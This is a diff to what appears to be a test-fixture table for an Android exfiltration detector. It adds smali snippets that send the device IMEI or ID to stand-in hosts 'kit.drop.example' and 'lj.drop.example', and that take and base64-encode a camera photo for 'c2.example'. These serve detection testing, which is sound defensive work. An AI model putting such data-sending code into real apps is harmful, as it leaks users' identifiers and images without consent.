@@ -132,7 +132,7 @@ move-result-object v0
     ),
     "base64+gzip": (
         """
-const-string v1, "H4sIAMYnBmsC/8soKSmw0tdPKcov0MvITElJzdNLrUjMLchJ1c/MAwA1mYbVHQAAAA=="
+const-string v1, "H4sIACQqBmsC/8soKSmw0tdPKcov0MvITElJzdNLrUjMLchJ1c/MAwA1mYbVHQAAAA=="
 const/4 v2, 0
 invoke-static {v1, v2} Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
 move-result-object v1
@@ -1329,6 +1329,66 @@ move-result-object v1
 @SEND@
 """,
         ("notifications", "http", "c2.example"),
+    ),
+    "unknown http kit": (
+        """
+@IMEI@
+
+const-string v2, "https://kit.drop.example/p"
+invoke-static {v2} Lcom/androidnetworking/AndroidNetworking;->post(Ljava/lang/String;)Lcom/androidnetworking/common/ANRequest$PostRequestBuilder;
+move-result-object v2
+const-string v3, "k"
+invoke-virtual {v2, v3, v1} Lcom/androidnetworking/common/ANRequest$PostRequestBuilder;->addBodyParameter(Ljava/lang/String;Ljava/lang/String;)Lcom/androidnetworking/common/ANRequest$PostRequestBuilder;
+move-result-object v2
+invoke-virtual {v2} Lcom/androidnetworking/common/ANRequest$PostRequestBuilder;->build()Lcom/androidnetworking/common/ANRequest;
+move-result-object v2
+const/4 v3, 0
+invoke-virtual {v2, v3} Lcom/androidnetworking/common/ANRequest;->getAsString(Lcom/androidnetworking/interfaces/StringRequestListener;)V
+return-void
+""",
+        ("device-id", "http", "kit.drop.example"),
+    ),
+    "camerax file": (
+        """
+new-instance v1, Ljava/io/File;
+const-string v2, "/data/x.jpg"
+invoke-direct {v1, v2} Ljava/io/File;-><init>(Ljava/lang/String;)V
+new-instance v3, Landroidx/camera/core/ImageCapture$OutputFileOptions$Builder;
+invoke-direct {v3, v1} Landroidx/camera/core/ImageCapture$OutputFileOptions$Builder;-><init>(Ljava/io/File;)V
+invoke-virtual {v3} Landroidx/camera/core/ImageCapture$OutputFileOptions$Builder;->build()Landroidx/camera/core/ImageCapture$OutputFileOptions;
+move-result-object v3
+const/4 v5, 0
+move-object v6, v5
+check-cast v6, Landroidx/camera/core/ImageCapture;
+invoke-virtual {v6, v3, v5, v5} Landroidx/camera/core/ImageCapture;->takePicture(Landroidx/camera/core/ImageCapture$OutputFileOptions;Ljava/util/concurrent/Executor;Landroidx/camera/core/ImageCapture$OnImageSavedCallback;)V
+new-instance v4, Ljava/io/FileInputStream;
+invoke-direct {v4, v1} Ljava/io/FileInputStream;-><init>(Ljava/io/File;)V
+const/16 v5, 100
+new-array v5, v5, [B
+invoke-virtual {v4, v5} Ljava/io/FileInputStream;->read([B)I
+const/4 v6, 0
+invoke-static {v5, v6} Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
+move-result-object v1
+@SEND@
+""",
+        ("camera", "http", "c2.example"),
+    ),
+    "loopj": (
+        """
+@IMEI@
+
+new-instance v2, Lcom/loopj/android/http/RequestParams;
+invoke-direct {v2} Lcom/loopj/android/http/RequestParams;-><init>()V
+const-string v3, "k"
+invoke-virtual {v2, v3, v1} Lcom/loopj/android/http/RequestParams;->put(Ljava/lang/String;Ljava/lang/String;)V
+new-instance v4, Lcom/loopj/android/http/AsyncHttpClient;
+invoke-direct {v4} Lcom/loopj/android/http/AsyncHttpClient;-><init>()V
+const-string v5, "http://lj.drop.example/a"
+const/4 v6, 0
+invoke-virtual {v4, v5, v2, v6} Lcom/loopj/android/http/AsyncHttpClient;->post(Ljava/lang/String;Lcom/loopj/android/http/RequestParams;Lcom/loopj/android/http/ResponseHandlerInterface;)Lcom/loopj/android/http/RequestHandle;
+return-void
+""",
+        ("device-id", "http", "lj.drop.example"),
     ),
 }
 
